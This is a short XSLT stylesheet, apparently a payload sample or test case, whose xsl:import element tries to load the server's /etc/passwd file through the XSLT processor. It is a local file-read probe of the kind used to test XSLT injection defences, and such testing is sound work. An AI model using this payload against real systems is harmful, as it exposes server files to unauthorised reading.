<!-- xsl:import of /etc/passwd -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:import href="/etc/passwd"/>
  <xsl:template match="/"><r/></xsl:template>
</xsl:stylesheet>
